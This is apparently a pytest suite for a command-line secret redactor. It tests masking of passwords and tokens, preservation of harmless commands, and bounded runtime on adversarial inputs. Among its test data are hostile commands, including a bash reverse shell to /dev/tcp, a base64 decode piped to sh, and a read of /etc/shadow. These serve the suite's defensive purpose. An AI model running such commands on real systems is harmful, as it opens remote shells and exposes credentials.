"""Secrets in command lines."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.redact import redact_args, redact_text, text

SECRET = "Tajne1!x"


@pytest.mark.parametrize(
    "args",
    [
        ["tool", f"--password={SECRET}"],
        ["tool", "--password", SECRET],
        ["tool", "--db-password", SECRET],
        ["tool", f"--api-key={SECRET}"],
        ["tool", "--token", SECRET],
        ["mysql", "-u", "root", f"-p{SECRET}"],
        ["mysql", "-u", "root", "-p", SECRET],
        ["/usr/bin/mysqldump", f"-p{SECRET}", "db"],
        ["sshpass", "-p", SECRET, "ssh", "host"],
        ["env", f"PGPASSWORD={SECRET}", "psql"],
        ["env", f"AWS_SECRET_ACCESS_KEY={SECRET}", "aws"],
        ["curl", "-u", f"jan:{SECRET}", "https://x"],
        ["curl", f"-ujan:{SECRET}", "https://x"],
        ["curl", f"https://jan:{SECRET}@host/path"],
        ["curl", "-H", f"Authorization: Bearer {SECRET}"],
        ["curl", "-H", f"X-Api-Key: {SECRET}"],
        ["curl", "-d", f'{{"user":"jan","password":"{SECRET}"}}'],
        ["smbclient", "//srv/x", "-U", f"jan%{SECRET}"],
        ["openssl", "rsa", "-passin", f"pass:{SECRET}"],
        ["ldapsearch", "-w", SECRET],
        ["redis-cli", "-a", SECRET],
        ["sh", "-c", f"mysql -u root -p{SECRET} db"],
        ["sh", "-c", f"PGPASSWORD='{SECRET}' psql -h db"],
        ["sh", "-c", f"tool --password {SECRET} --other"],
        ["sh", "-c", f"echo root:{SECRET} | chpasswd"],
        ["net", "use", "/user:jan", f"/password:{SECRET}"],
        ["tool", f"--password=ala ma {SECRET}"],
    ],
)
def test_the_secret_is_gone_and_the_rest_stays(args: list[str]) -> None:
    clean = redact_args(args)
    assert SECRET not in " ".join(clean)
    assert "***" in " ".join(clean)
    assert len(clean) == len(args)
    assert clean[0] == args[0]


@pytest.mark.parametrize(
    "args",
    [
        ["passwd", "root"],
        ["tool", "--password-file=/etc/x"],
        ["ls", "-p", "/tmp"],
        ["mkdir", "-p", "a/b"],
        ["cp", "-pr", "a", "b"],
        ["env", "PWD=/root", "OLDPWD=/tmp", "sh"],
        ["cat", "/etc/passwd", "/etc/shadow"],
        ["sh", "-c", "echo aGk= | base64 -d | sh"],
        ["ssh", "-p", "2222", "host"],
        ["ps", "-u", "root"],
        ["curl", "http://host:8080/x"],
        ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        [],
    ],
)
def test_what_is_no_secret_stays(args: list[str]) -> None:
    assert redact_args(args) == args


def test_account_is_kept_beside_its_secret() -> None:
    assert redact_args(["curl", "-u", "jan:x1y2", "u"]) == ["curl", "-u", "jan:***", "u"]
    assert redact_text("https://jan:x1y2@host/") == "https://jan:***@host/"


@given(st.lists(st.text(max_size=200), max_size=10))
def test_as_many_arguments_as_before(args: list[str]) -> None:
    assert len(redact_args(args)) == len(args)


@given(st.text(max_size=300))
def test_redacting_twice_changes_nothing_more(text: str) -> None:
    once = redact_text(text)
    assert redact_text(once) == once


@pytest.mark.parametrize(
    "text",
    [
        "a_" * 4096,
        "password" * 1024,
        "x-" * 4096,
        "a://" * 2048,
        "mysql " * 1400,
        "authorization" * 600,
        "--pass " * 1100,
        "pass_" * 1638,
        "printf " * 1170 + "pass",
        "kinit <<" * 1024,
        ".SetPassword('" * 585,
        "--env=" * 1300 + "PASS=x",
        "eyJ" * 2700,
        "(a" * 4096 + " | su",
        "echo x>" * 1170 + "pass",
        "expect password" * 540,
        "MapNetworkDrive(" + "a," * 4000,
        "connect to a user b " * 409,
        "AB12C-" * 1365,
        "kinit x <<" * 800 + "< y",
        "/u:x " + "/p:" * 2700,
        "-u a%" * 1600,
        "-U jan:" * 1170,
        "/x:" * 2700 + "@",
        "x/y:" * 2000 + "@h",
        "-Name password " * 540,
        "-Value x " * 900 + "-Name password",
        "Set('" * 1600,
        "name='password' " * 512,
        "kinit <<a\n" * 800,
        "a a a a a a a a " * 512 + "--password-stdin <<< x",
        "tool --password-stdin " * 370 + "<<<",
        "echo a | " * 900 + "sudo -S",
        "--tajnyklucz=" + "1" * 4000 + "a" * 4000,
        "--klucz=" + "1a" * 4000 + "!",
        "X-Token" + "-a" * 4000 + ": x",
        "password " + "do a " * 1600 + ": x1",
        "$6$" + "a$" * 4000,
        "net -ArgumentList '" + "user jan x " * 740 + "'",
        "['net'," * 1170,
        "pass = " * 1170,
        "a" * 4000 + "=" + "b1" * 2000,
    ],
)
def test_hostile_text_takes_bounded_time(text: str) -> None:
    began = time.process_time()
    redact_text(text[:8192])
    assert time.process_time() - began < 1.0


def test_what_is_remembered_is_harmless_and_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    kept: set[str] = set()
    monkeypatch.setattr(text, "_HARMLESS", kept)
    assert redact_text(f"tool --password={SECRET}") == "tool --password=***"
    assert not kept
    for line in ("dir C:\\Windows", "dir C:\\Windows", "x" * 300):
        assert redact_text(line) == line
    assert kept == {"dir C:\\Windows"}
    for number in range(text.MAX_KEPT):
        redact_text(f"dir {number}")
    assert len(kept) <= text.MAX_KEPT
